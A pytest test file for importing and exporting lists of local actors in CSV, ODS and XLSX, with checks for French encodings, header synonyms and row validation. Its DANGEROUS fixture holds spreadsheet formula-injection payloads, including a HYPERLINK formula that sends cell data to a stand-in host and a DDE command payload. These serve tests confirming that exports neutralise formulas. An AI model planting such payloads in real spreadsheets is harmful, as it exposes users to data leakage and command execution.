"""Import and export of actors from CSV, ODS and XLSX, with files made here as French offices make them."""

from __future__ import annotations

import csv
import io
import random
import zipfile
from collections.abc import Callable, Sequence

import pytest
from odf.office import Annotation
from odf.opendocument import OpenDocumentSpreadsheet
from odf.table import Table, TableCell, TableRow
from odf.text import P, S
from openpyxl import Workbook, load_workbook

from atelier.imports import actor_columns
from atelier.imports.actors_table import (
    COLUMNS,
    KIND_LABELS,
    ImportPreview,
    Limits,
    RowError,
    actors_to_csv,
    actors_to_ods,
    actors_to_xlsx,
    read_actor_table,
)
from atelier.models import Actor, ActorKind, ActorStatus
from atelier.rules.actors import slug

NOT_A_SPREADSHEET = "n'est pas un tableur (CSV, ODS ou XLSX)"


def make_actor(name: str, kind: ActorKind = ActorKind.COMPANY, **fields: object) -> Actor:
    contact = fields.pop("contact", {})
    return Actor.model_validate({"cle": slug(name), "nom": name, "type": kind, "contact": contact, **fields})


def csv_bytes(lines: list[str], encoding: str = "utf-8-sig") -> bytes:
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


def xlsx_bytes(sheets: dict[str, list[list[object]]]) -> bytes:
    book = Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def assert_error(preview: ImportPreview, row: int, column: str | None, *words: str) -> RowError:
    """The one error of `row` on `column`, whose message holds every word."""
    found = [e for e in preview.errors if e.row == row and e.column == column]
    assert len(found) == 1, preview.errors
    for word in words:
        assert word in found[0].message, found[0].message
    return found[0]


# A varied set: every kind and status, accents, typographic apostrophes, line breaks, runs of spaces, decimals.
ACTORS = [
    make_actor("Scierie Dumas", ActorKind.COMPANY, secteur="Sciage et rabotage du bois", naf="16.10A",
               commune="Saint-Julien-du-Vallon", statut="pionnier", disponibilite_groupes=2,
               disponibilite_heures_mois=6, consentement_public=True,
               motivation="Trouver des débouchés locaux.\nDeuxième ligne,  avec deux espaces ; et un point-virgule.",
               contact={"nom": "Hélène Dumas", "role": "Gérante", "email": "h.dumas@scierie-dumas.example",
                        "telephone": "04 71 00 00 01"}),
    make_actor("GAEC du Pré-Haut", ActorKind.FARM, statut="candidat", disponibilite_groupes=0,
               disponibilite_heures_mois=2.5, contact={"nom": "Didier Vialle"}),
    make_actor("Brûlerie « Cœur d’Été »", ActorKind.CRAFTSMAN, commune="Aurillac", motivation="Économiser l’énergie"),
    make_actor("Épicerie Ça Roule", ActorKind.SHOP),
    make_actor("Commune de Montclar", ActorKind.LOCAL_AUTHORITY, statut="membre"),
    make_actor("Les Amis du Vallon", ActorKind.ASSOCIATION, secteur="Éducation populaire, \"loisirs\""),
    make_actor("Lycée agricole", ActorKind.PUBLIC_BODY, disponibilite_heures_mois=12.25),
    make_actor("Divers", ActorKind.OTHER),
]


# --- CSV as offices save it -------------------------------------------------------------------------


def test_csv_with_semicolons_in_utf8_with_bom() -> None:
    content = csv_bytes([
        "Nom;Type;Secteur;Code NAF;Commune;Statut;Disponibilité (groupes);Heures par mois;Consentement;Contact;"
        "Rôle;E-mail;Téléphone;Motivation",
        "Scierie Dumas;Entreprise;Sciage;16.10a;Saint-Julien-du-Vallon;Pionnier;2;6,5;oui;Hélène Dumas;Gérante;"
        "h.dumas@scierie.example;04 71 00 00 01;\"Vendre les connexes;\nlocalement\"",
        "GAEC du Pré-Haut;exploitation agricole;;;;;;;;;;;;",
    ])
    assert content.startswith(b"\xef\xbb\xbf")
    preview = read_actor_table("acteurs.csv", content)
    assert preview.ok, preview
    assert preview.total_rows == 2 and preview.columns_ignored == []
    assert preview.columns_found == [
        "Nom", "Type", "Secteur", "Code NAF", "Commune", "Statut", "Disponibilité (groupes)", "Heures par mois",
        "Consentement", "Contact", "Rôle", "E-mail", "Téléphone", "Motivation"]
    dumas, gaec = preview.actors
    assert dumas == make_actor(
        "Scierie Dumas", ActorKind.COMPANY, secteur="Sciage", naf="16.10A", commune="Saint-Julien-du-Vallon",
        statut="pionnier", disponibilite_groupes=2, disponibilite_heures_mois=6.5, consentement_public=True,
        motivation="Vendre les connexes;\nlocalement",
        contact={"nom": "Hélène Dumas", "role": "Gérante", "email": "h.dumas@scierie.example",
                 "telephone": "04 71 00 00 01"})
    # Empty cells take the model's defaults: member, one group, no hours, no consent.
    assert (gaec.key, gaec.kind, gaec.status, gaec.availability_groups, gaec.availability_hours_month,
            gaec.public_consent) == ("gaec-du-pre-haut", ActorKind.FARM, ActorStatus.MEMBER, 1, 0, False)


def test_csv_with_commas_in_windows_1252_keeps_every_accent() -> None:
    names = ["Brûlerie Cœur d’Été", "Crèche « Ça Va »", "Œuvre de l’Hôpital", "Menuiserie Lefèvre, père & fils"]
    lines = ["Nom,Catégorie d’acteur,Activité,Ville"]
    lines += [f'"{name}",Artisan,Torréfaction à façon,Besançon' for name in names]
    content = csv_bytes(lines, encoding="cp1252")
    with pytest.raises(UnicodeDecodeError):
        content.decode("utf-8")  # really Windows-1252: ’ is 0x92, œ is 0x9C
    preview = read_actor_table("export.csv", content)
    assert preview.ok, preview
    assert [a.name for a in preview.actors] == names
    assert {(a.sector, a.commune) for a in preview.actors} == {("Torréfaction à façon", "Besançon")}


def test_tab_separated_utf16_from_excel_unicode_text() -> None:
    content = "Nom\tType\tCommune\r\nFromagerie Arnal\tEntreprise\tSaint-Flour\r\n".encode("utf-16")
    preview = read_actor_table("acteurs.txt", content)
    assert preview.ok, preview
    assert [(a.name, a.commune) for a in preview.actors] == [("Fromagerie Arnal", "Saint-Flour")]


def test_utf8_saved_again_as_windows_1252_is_repaired() -> None:
    text = "Nom;Type;Contact\r\nFerme de l’Étang;Exploitation agricole;Hélène Béal\r\n"
    content = text.encode("utf-8").decode("cp1252").encode("utf-8")  # "Ã‰tang", "HÃ©lÃ¨ne"
    preview = read_actor_table("acteurs.csv", content)
    assert preview.ok, preview
    assert (preview.actors[0].name, preview.actors[0].contact.name) == ("Ferme de l’Étang", "Hélène Béal")


def test_a_file_in_neither_utf8_nor_windows_1252_is_refused_not_garbled() -> None:
    content = "Nom;Type\r\nÉcole du Bourg;Établissement public\r\n".encode("cp850")  # É is 0x90 in DOS code page
    preview = read_actor_table("acteurs.csv", content)
    assert preview.file_error is not None and "encodage" in preview.file_error and "CSV UTF-8" in preview.file_error
    assert preview.actors == [] and not preview.ok


def test_excel_sep_line_names_the_separator_and_is_not_a_row() -> None:
    content = csv_bytes(["sep=,", "Nom,Type,Commune", "\"Dumas; fils\",Entreprise,Aurillac", ",Autre,"])
    preview = read_actor_table("acteurs.csv", content)
    assert [a.name for a in preview.actors] == ["Dumas; fils"]
    assert preview.errors == [RowError(3, "Nom", "Le nom de l'acteur est vide.")]


def test_csv_content_is_read_whatever_its_extension() -> None:
    content = csv_bytes(["Nom;Type", "Scierie Dumas;Entreprise"])
    preview = read_actor_table("acteurs.xlsx", content)
    assert preview.ok and [a.name for a in preview.actors] == ["Scierie Dumas"]


# --- Headers ---------------------------------------------------------------------------------------


def test_renamed_columns_are_recognised_through_their_french_synonyms() -> None:
    content = csv_bytes([
        "RAISON SOCIALE;categorie d acteur; Activité ;Code APE;Ville;Nom du contact;Fonction;Courriel;Tél.;"
        "Accord de diffusion;Disponibilité;Heures/mois;Remarques;Statut",
        "Scierie Dumas;ENTREPRISE;Sciage;16.10A;Aurillac;Hélène Dumas;Gérante;h@d.example;0471000001;X;3;4 h;"
        "à rappeler;Candidate",
    ])
    preview = read_actor_table("acteurs.csv", content)
    assert preview.ok, preview
    assert preview.columns_ignored == ["Remarques"]
    assert "RAISON SOCIALE" in preview.columns_found and "Tél." in preview.columns_found
    actor = preview.actors[0]
    assert (actor.name, actor.kind, actor.sector, actor.naf, actor.commune) == (
        "Scierie Dumas", ActorKind.COMPANY, "Sciage", "16.10A", "Aurillac")
    assert actor.contact.model_dump() == {"name": "Hélène Dumas", "role": "Gérante", "email": "h@d.example",
                                          "phone": "0471000001"}
    assert (actor.public_consent, actor.availability_groups, actor.availability_hours_month, actor.status) == (
        True, 3, 4, ActorStatus.CANDIDATE)


def test_every_header_synonym_is_unambiguous() -> None:
    folded: dict[str, str] = {}
    for column in COLUMNS:
        for word in (column.label, *column.synonyms):
            key = actor_columns.fold(word)
            assert folded.setdefault(key, column.key) == column.key, word


@pytest.mark.parametrize(
    ("header", "missing"),
    [("Nom;Commune;E-mail", ["« Type »"]), ("Raison sociale;Ville", ["« Type »"]),
     ("Commune;Type", ["« Nom »"]), ("Commune;Secteur", ["« Nom »", "« Type »"])],
)
def test_a_missing_required_column_names_it_and_lists_the_columns_found(header: str, missing: list[str]) -> None:
    content = csv_bytes([header, "Scierie Dumas;Entreprise"])
    preview = read_actor_table("acteurs.csv", content)
    assert preview.file_error is not None and preview.actors == []
    for label in missing:
        assert label in preview.file_error
    found = preview.file_error.split("Colonnes trouvées")[1]
    for title in header.split(";"):
        assert f"« {title} »" in found


def test_a_bare_nom_yields_to_the_structure_column() -> None:
    content = csv_bytes(["Nom;Prénom;Structure;Type", "Dumas;Hélène;Scierie Dumas;Entreprise"])
    preview = read_actor_table("acteurs.csv", content)
    assert preview.ok and [a.name for a in preview.actors] == ["Scierie Dumas"]
    assert preview.columns_found == ["Structure", "Type"] and preview.columns_ignored == ["Nom", "Prénom"]


def test_title_rows_above_the_header_keep_the_row_numbers_the_person_sees() -> None:
    content = csv_bytes(["Liste des acteurs du Haut-Vallon;", "", "Nom;Type", "Scierie Dumas;Entreprise", ";Artisan"])
    preview = read_actor_table("acteurs.csv", content)
    assert [a.name for a in preview.actors] == ["Scierie Dumas"]
    assert_error(preview, 5, "Nom", "vide")


def test_data_in_a_column_without_title_is_reported_not_silently_dropped() -> None:
    content = csv_bytes(["Nom;Type;", "Scierie Dumas;Entreprise;note importante"])
    preview = read_actor_table("acteurs.csv", content)
    assert preview.ok
    assert preview.columns_ignored == ["colonne C (sans titre)"]


# --- Files that cannot be read ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "content",
    [b"", b"   \r\n\r\n", b"\xef\xbb\xbf", b"\xef\xbb\xbf\r\n", "\r\n".encode("utf-16")],
    ids=["zero-bytes", "blank-lines", "bom-only", "bom-and-newline", "utf16-blank"],
)
def test_an_empty_file_is_said_to_be_empty(content: bytes) -> None:
    preview = read_actor_table("acteurs.csv", content)
    assert preview.file_error == "Le fichier « acteurs.csv » est vide."
    assert preview.actors == [] and preview.errors == [] and preview.total_rows == 0


def test_a_header_without_rows_is_an_empty_list() -> None:
    preview = read_actor_table("acteurs.csv", csv_bytes(["Nom;Type", ";", ""]))
    assert preview.file_error is not None and "aucun acteur" in preview.file_error


def _zip(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


@pytest.mark.parametrize(
    ("filename", "content"),
    [("photo.png", PNG), ("acteurs.csv", PNG), ("devis.pdf", PDF), ("acteurs.xlsx", PDF),
     ("bruit.bin", random.Random(7).randbytes(5000)), ("acteurs.csv", random.Random(8).randbytes(300)),
     ("courrier.docx", _zip({"[Content_Types].xml": b"<x/>", "word/document.xml": b"<x/>"})),
     ("note.odt", _zip({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"})),
     ("page.html", b"<!DOCTYPE html><html><body><table><tr><td>Nom</td></tr></table></body></html>")],
    ids=["png", "png-named-csv", "pdf", "pdf-named-xlsx", "random-binary", "short-random-binary", "docx", "odt",
         "html"],
)
def test_a_file_that_is_not_a_spreadsheet_is_refused(filename: str, content: bytes) -> None:
    preview = read_actor_table(filename, content)
    assert preview.file_error is not None and NOT_A_SPREADSHEET in preview.file_error
    assert filename in preview.file_error and preview.actors == []


def test_an_old_xls_file_says_how_to_save_it() -> None:
    content = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    preview = read_actor_table("acteurs.xls", content)
    assert preview.file_error is not None and "Excel 97-2003" in preview.file_error and "XLSX" in preview.file_error


@pytest.mark.parametrize(
    ("filename", "content"),
    [("acteurs.xlsx", _zip({"[Content_Types].xml": b"<x/>", "xl/workbook.xml": b"not xml"})),
     ("acteurs.ods", _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                           "content.xml": b"<office:document-content"})),
     ("acteurs.xlsx", xlsx_bytes({"Acteurs": [["Nom", "Type"], ["A", "Autre"]]})[:300])],
    ids=["xlsx-bad-xml", "ods-bad-xml", "truncated-xlsx"],
)
def test_a_damaged_spreadsheet_is_refused_with_a_message(filename: str, content: bytes) -> None:
    preview = read_actor_table(filename, content)
    assert preview.file_error is not None and filename in preview.file_error
    assert "endommagé" in preview.file_error and preview.actors == []


def test_an_ods_with_a_dtd_is_refused() -> None:
    xml = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'
    content = _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": xml})
    preview = read_actor_table("acteurs.ods", content)
    assert preview.file_error is not None and "endommagé" in preview.file_error


def test_ten_thousand_rows_are_all_read() -> None:
    lines = ["Nom;Type;Commune;E-mail;Disponibilité (groupes);Heures par mois"]
    lines += [f"Acteur n°{i};Entreprise;Aurillac;contact{i}@acteur.example;1;2,5" for i in range(10_000)]
    preview = read_actor_table("gros.csv", csv_bytes(lines))
    assert preview.ok
    assert preview.total_rows == 10_000 and len(preview.actors) == 10_000
    assert len({a.key for a in preview.actors}) == 10_000


def test_more_rows_than_the_limit_is_a_file_error() -> None:
    lines = ["Nom;Type"] + [f"Acteur {i};Autre" for i in range(6)]
    preview = read_actor_table("gros.csv", csv_bytes(lines), limits=Limits(rows=5))
    assert preview.file_error is not None and "plus de 5 lignes" in preview.file_error and preview.actors == []


# --- Row checks ------------------------------------------------------------------------------------


def test_each_faulty_row_gets_its_error_and_only_valid_rows_are_kept() -> None:
    content = csv_bytes([
        "Nom;Type;E-mail;Disponibilité (groupes);Statut;Consentement;Heures par mois",  # row 1
        "Scierie Dumas;Entreprise;h@scierie.example;2;;;",  # 2: valid
        ";Entreprise;;;;;",  # 3: missing name
        "Usine Martin;Usine;;;;;",  # 4: unknown kind
        "Garage Roux;Artisan;garage.roux@;;;;",  # 5: bad e-mail
        "scierie  dumas;Entreprise;;;;;",  # 6: duplicate of row 2, other case and spaces
        "Scïerie Dûmas;Entreprise;;;;;",  # 7: duplicate of row 2, other accents
        "Ferme Vidal;Exploitation agricole;;beaucoup;;;",  # 8: availability not a number
        ";;;;;;",  # 9: empty, skipped
        "Ferme des Sources;Exploitation agricole;;;;;",  # 10: already in the territory
        "Café du Pont;Commerce;;;chef;;",  # 11: unknown status
        "Le Fournil;Commerce;;;;peut-être;",  # 12: consent not understood
        "Atelier Bois;;pas-un-mail;;;;",  # 13: two errors on one row
        "Ferme Bas;Exploitation agricole;;1,5;;;deux",  # 14: groups not whole, hours not a number
        "Valide Deux;Autre;;0;Pionnière;non;0",  # 15: valid
    ])
    preview = read_actor_table("acteurs.csv", content, existing_names=["FERME DES SOURCES", "Autre acteur"])
    assert not preview.ok and preview.file_error is None
    assert [a.name for a in preview.actors] == ["Scierie Dumas", "Valide Deux"]
    assert preview.total_rows == 13  # rows 2 to 15 less the empty one
    assert_error(preview, 3, "Nom", "nom", "vide")
    kind_error = assert_error(preview, 4, "Type", "« Usine »", "inconnu")
    for label in KIND_LABELS.values():
        assert label in kind_error.message
    assert_error(preview, 5, "E-mail", "« garage.roux@ »")
    assert_error(preview, 6, "Nom", "ligne 2")
    assert_error(preview, 7, "Nom", "« Scïerie Dûmas »", "ligne 2")
    assert_error(preview, 8, "Disponibilité (groupes)", "« beaucoup »")
    assert_error(preview, 10, "Nom", "existe déjà")
    assert_error(preview, 11, "Statut", "« chef »", "pionnier", "membre", "candidat")
    assert_error(preview, 12, "Consentement", "« peut-être »", "oui", "non")
    assert_error(preview, 13, "Type", "vide", "Exploitation agricole")
    assert_error(preview, 13, "E-mail", "« pas-un-mail »")
    assert_error(preview, 14, "Disponibilité (groupes)", "entier")
    assert_error(preview, 14, "Heures par mois", "« deux »")
    assert len(preview.errors) == 13
    assert all(e.row != 9 for e in preview.errors)


def test_a_name_already_in_the_territory_is_a_duplicate() -> None:
    content = csv_bytes(["Nom;Type", "Scierie Dumas;Entreprise", "Ferme Neuve;Exploitation agricole"])
    preview = read_actor_table("acteurs.csv", content, existing_names=("Scierie Dumas",))
    assert [a.name for a in preview.actors] == ["Ferme Neuve"]
    assert preview.errors == [RowError(2, "Nom", "« Scierie Dumas » existe déjà dans ce territoire.")]


def test_keys_are_slugs_of_names_made_unique() -> None:
    content = csv_bytes(["Nom;Type", "Café du Pont;Commerce", "Αθηνά;Autre", "Σπάρτη;Autre", "Κόρινθος;Autre"])
    preview = read_actor_table("acteurs.csv", content)
    assert preview.ok, preview
    assert [a.key for a in preview.actors] == ["cafe-du-pont", "acteur", "acteur-2", "acteur-3"]


def test_values_are_trimmed_and_nfc_normalised() -> None:
    decomposed = "Cafe\u0301 du Pont"  # é typed as e + combining accent, as some Mac exports do
    content = csv_bytes(["Nom;Type;Commune", f"  {decomposed}  ;  commerce ;  Saint-Flour\u00a0"])
    actor = read_actor_table("acteurs.csv", content).actors[0]
    assert (actor.name, actor.kind, actor.commune) == ("Café du Pont", ActorKind.SHOP, "Saint-Flour")


# --- XLSX and ODS --------------------------------------------------------------------------------------


def test_xlsx_made_by_a_spreadsheet_is_read_from_the_sheet_with_actors() -> None:
    content = xlsx_bytes({
        "Lisez-moi": [["Liste tenue par la communauté de communes"]],
        "Acteurs": [
            ["Tableau des acteurs, mis à jour le 3 mars"],
            [],
            ["Raison sociale", "Catégorie d’acteur", "Tél", "Accord de diffusion", "Heures par mois",
             "Disponibilité (groupes)", "NAF", "Calcul"],
            ["Scierie Dumas", "Entreprise", 471000001, True, 2.5, 2, "16.10A", "=1+1"],
            [None, None, None, None, None, None, None, None],
            ["Ferme Vidal", "Exploitation agricole", "06 12 34 56 78", False, None, None, None, None],
            [" ", "Agriculteur"],
        ],
    })
    preview = read_actor_table("acteurs.xlsx", content)
    assert preview.columns_ignored == ["Calcul"]
    assert [a.name for a in preview.actors] == ["Scierie Dumas", "Ferme Vidal"]
    dumas, vidal = preview.actors
    assert (dumas.contact.phone, dumas.public_consent, dumas.availability_hours_month, dumas.availability_groups,
            dumas.naf) == ("0471000001", True, 2.5, 2, "16.10A")  # the zero Excel dropped is back
    assert (vidal.kind, vidal.contact.phone, vidal.public_consent) == (ActorKind.FARM, "06 12 34 56 78", False)
    assert preview.errors == [RowError(7, "Raison sociale", "Le nom de l'acteur est vide.")]
    assert preview.total_rows == 3


def test_ods_made_by_odfpy_is_read_with_repeats_paragraphs_and_comments() -> None:
    document = OpenDocumentSpreadsheet()
    table = Table(name="Acteurs")

    def row(*cells: TableCell, repeat: int = 1) -> None:
        element = TableRow(numberrowsrepeated=repeat) if repeat > 1 else TableRow()
        for cell in cells:
            element.addElement(cell)
        table.addElement(element)

    def text(*paragraphs: str, repeat: int = 1) -> TableCell:
        cell = TableCell(valuetype="string", numbercolumnsrepeated=repeat) if repeat > 1 else TableCell(
            valuetype="string")
        for paragraph in paragraphs:
            cell.addElement(P(text=paragraph))
        return cell

    row(text("Nom"), text("Type"), TableCell(), text("Commune"), text("Heures par mois"), text("Consentement"),
        text("Motivation"), TableCell(numbercolumnsrepeated=1000))
    spaced = P(text="deux")
    spaced.addElement(S(c=3))
    spaced.addText("espaces")
    motivation = TableCell(valuetype="string")
    motivation.addElement(P(text="Première ligne"))
    motivation.addElement(spaced)
    commented = text("Entreprise")
    note = Annotation()
    note.addElement(P(text="commentaire à ne pas importer"))
    commented.addElement(note)
    hours = TableCell(valuetype="float", value="3.5")
    hours.addElement(P(text="3,5"))
    consent = TableCell(valuetype="boolean", booleanvalue="true")
    consent.addElement(P(text="VRAI"))
    row(text("Scierie Dumas"), commented, TableCell(), text("Aurillac"), hours, consent, motivation,
        TableCell(numbercolumnsrepeated=1000))
    row(TableCell(numbercolumnsrepeated=1024), repeat=5)  # a blank block: rows 3 to 7
    row(text("Mairie", "de Vic"), text("collectivité"), TableCell(numbercolumnsrepeated=2), text("0"))
    row(TableCell(numbercolumnsrepeated=1024), repeat=1_048_000)  # LibreOffice's blank rows to the sheet's end
    document.spreadsheet.addElement(table)
    out = io.BytesIO()
    document.save(out)

    preview = read_actor_table("acteurs.ods", out.getvalue())
    assert preview.ok, preview
    dumas, mairie = preview.actors
    assert (dumas.kind, dumas.commune, dumas.availability_hours_month, dumas.public_consent) == (
        ActorKind.COMPANY, "Aurillac", 3.5, True)
    assert dumas.motivation == "Première ligne\ndeux   espaces"
    assert (mairie.name, mairie.kind, mairie.availability_hours_month) == ("Mairie de Vic",
                                                                          ActorKind.LOCAL_AUTHORITY, 0)
    # Row numbers count the repeated blank rows: the person sees the mairie on row 8.
    bad = read_actor_table("acteurs.ods", out.getvalue(), existing_names=["Mairie de Vic"])
    assert bad.errors == [RowError(8, "Nom", "« Mairie de Vic » existe déjà dans ce territoire.")]


# --- Export, and export then import ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("filename", "export"),
    [("acteurs.csv", actors_to_csv), ("acteurs.csv", lambda a: actors_to_csv(a, delimiter=",")),
     ("acteurs.xlsx", actors_to_xlsx), ("acteurs.ods", actors_to_ods)],
    ids=["csv-semicolon", "csv-comma", "xlsx", "ods"],
)
def test_export_then_import_gives_the_same_actors(filename: str, export: Callable[[Sequence[Actor]], bytes]) -> None:
    content = export(ACTORS)
    preview = read_actor_table(filename, content)
    assert preview.ok, preview
    assert preview.columns_found == [c.label for c in COLUMNS] and preview.columns_ignored == []
    assert preview.actors == ACTORS


def test_csv_export_is_utf8_with_bom_and_french_headers() -> None:
    content = actors_to_csv(ACTORS[:1])
    assert content.startswith(b"\xef\xbb\xbf")
    header = content.decode("utf-8-sig").splitlines()[0]
    assert header.split(";") == [c.label for c in COLUMNS]
    assert "Disponibilité (groupes)" in header and "Téléphone" in header
    assert ";6;" in content.decode("utf-8-sig") and "2,5" in actors_to_csv(ACTORS[1:2]).decode("utf-8-sig")


def test_export_of_no_actor_is_a_header_only_file() -> None:
    for content, filename in ((actors_to_csv([]), "a.csv"), (actors_to_xlsx([]), "a.xlsx"),
                              (actors_to_ods([]), "a.ods")):
        preview = read_actor_table(filename, content)
        assert preview.file_error is not None and "aucun acteur" in preview.file_error


DANGEROUS = [
    make_actor('=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez")', ActorKind.OTHER, secteur="+33 bis",
               motivation="-2+3", contact={"role": "@SOMME(A1:A9)", "telephone": "+33 4 71 00 00 01"}),
    make_actor("=1+1", ActorKind.OTHER, commune="=cmd|' /C calc'!A0"),
]


def test_csv_export_neutralises_formulas_and_reads_them_back_as_text() -> None:
    content = actors_to_csv(DANGEROUS)
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell
    assert rows[1][0].startswith("'=HYPERLINK") and rows[1][13] == "'+33 4 71 00 00 01"
    assert read_actor_table("a.csv", content).actors == DANGEROUS


def test_xlsx_export_writes_formulas_as_text_cells() -> None:
    content = actors_to_xlsx(DANGEROUS)
    sheet = load_workbook(io.BytesIO(content)).active  # not data_only: a formula would show as data_type "f"
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert sheet["A2"].value == DANGEROUS[0].name and sheet["A3"].value == "=1+1"
    assert sheet["A2"].quotePrefix
    assert read_actor_table("a.xlsx", content).actors == DANGEROUS


def test_ods_export_writes_formulas_as_string_cells() -> None:
    content = actors_to_ods(DANGEROUS)
    xml = zipfile.ZipFile(io.BytesIO(content)).read("content.xml").decode()
    assert "table:formula" not in xml
    assert 'office:value-type="string"' in xml and "=1+1" in xml
    assert read_actor_table("a.ods", content).actors == DANGEROUS


def test_ods_export_writes_each_line_as_a_paragraph() -> None:
    # LibreOffice drops a <text:line-break/> inside a cell; it writes, and reads, one paragraph per line.
    content = actors_to_ods(ACTORS[:1])
    xml = zipfile.ZipFile(io.BytesIO(content)).read("content.xml").decode()
    assert "<text:p>Trouver des débouchés locaux.</text:p><text:p>Deuxième ligne," in xml
    assert "line-break" not in xml
